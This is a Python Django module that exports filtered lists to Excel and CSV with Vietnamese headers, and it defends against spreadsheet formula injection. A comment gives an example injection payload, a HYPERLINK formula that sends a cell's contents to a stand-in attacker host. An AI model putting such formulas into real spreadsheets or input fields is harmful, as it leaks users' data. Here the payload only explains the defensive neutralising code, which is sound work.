"""Excel (.xlsx) and CSV downloads of a filtered list, with Vietnamese headers."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable, Iterable, Iterator, Sequence
from decimal import Decimal
from io import BytesIO
from typing import Any

from django.db.models import Model, QuerySet
from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import get_language
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

# An export's columns, declared once per list (<app>/exports.py): (header, value of one row).
Columns = tuple[tuple[Any, Callable[[Any], Any]], ...]


def headers(columns: Columns) -> list[str]:
    return [str(header) for header, _value in columns]


# Rows a queryset export holds at once: a 10,000-row export kept every row object to the end
# (90 MiB); in chunks its memory no longer grows with the rows.
CHUNK_SIZE = 2000


def rows(columns: Columns, records: Iterable[Any]) -> Iterator[list[Any]]:
    if isinstance(records, QuerySet):
        records = records.iterator(chunk_size=CHUNK_SIZE)  # prefetches per chunk too
    return ([value(record) for _header, value in columns] for record in records)


def choice_label(model: type[Model], field: str) -> Callable[[Any], str]:
    """A column's choice label, like get_FOO_display, but the labels are translated once per
    language (get_FOO_display translates every label of the field at each call)."""
    labels: dict[str | None, dict[Any, str]] = {}

    def label(record: Any) -> str:
        language = get_language()
        if language not in labels:
            choices = model._meta.get_field(field).flatchoices
            labels[language] = {value: str(text) for value, text in choices}
        value = getattr(record, field)
        return labels[language].get(value, value)

    return label


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Text that Excel or LibreOffice would run as a formula ("CSV/formula injection"): a petition
# or an imported cell reading =HYPERLINK("http://evil.example/?x="&A1,"click") turns into a
# live link that leaks the sheet. Tab and carriage return count too: a spreadsheet skips them
# and reads the formula behind.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _neutralised(text: str) -> str:
    """A leading apostrophe makes any spreadsheet show the text as typed, never evaluate it."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def _cell(value: Any) -> Any:
    if isinstance(value, dt.datetime):
        # Excel has no time zones: write the local (Asia/Ho_Chi_Minh) wall-clock time.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if value is None:
        return ""
    # Numbers stay numbers (a negative amount is not a formula); only text is neutralised.
    if isinstance(value, (int, float, Decimal, dt.date)):
        return value
    return _neutralised(str(value))


def xlsx_response(
    *, filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], sheet: str = "Dữ liệu"
) -> HttpResponse:
    """Write-only workbook: constant time per row (a normal workbook rescans the sheet)."""
    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet(title=sheet[:31])
    bold = Font(bold=True)
    header_cells = []
    for title in headers:
        cell = WriteOnlyCell(ws, value=str(title))
        cell.font = bold
        header_cells.append(cell)
    ws.append(header_cells)
    for row in rows:
        out = []
        for value in row:
            value = _cell(value)
            if isinstance(value, dt.date):
                cell = WriteOnlyCell(ws, value=value)
                cell.number_format = "DD/MM/YYYY"
                out.append(cell)
            elif isinstance(value, str) and value.startswith("'"):
                # A string cell by declaration, not by openpyxl's guess (it takes any str that
                # starts with "=" for a formula). Only these cells: a cell object for every
                # text value made a 10,000-row export 40-60% slower.
                cell = WriteOnlyCell(ws, value=value)
                cell.data_type = "s"
                out.append(cell)
            else:
                out.append(value)
        ws.append(out)
    buffer = BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def csv_response(
    *, filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")  # BOM so Excel opens the Vietnamese text as UTF-8
    writer = csv.writer(response)
    writer.writerow(headers)
    for row in rows:
        # The same values as the workbook (text neutralised, local times), dates as text.
        writer.writerow(
            [v.strftime("%d/%m/%Y") if isinstance(v, dt.date) else v for v in map(_cell, row)]
        )
    return response
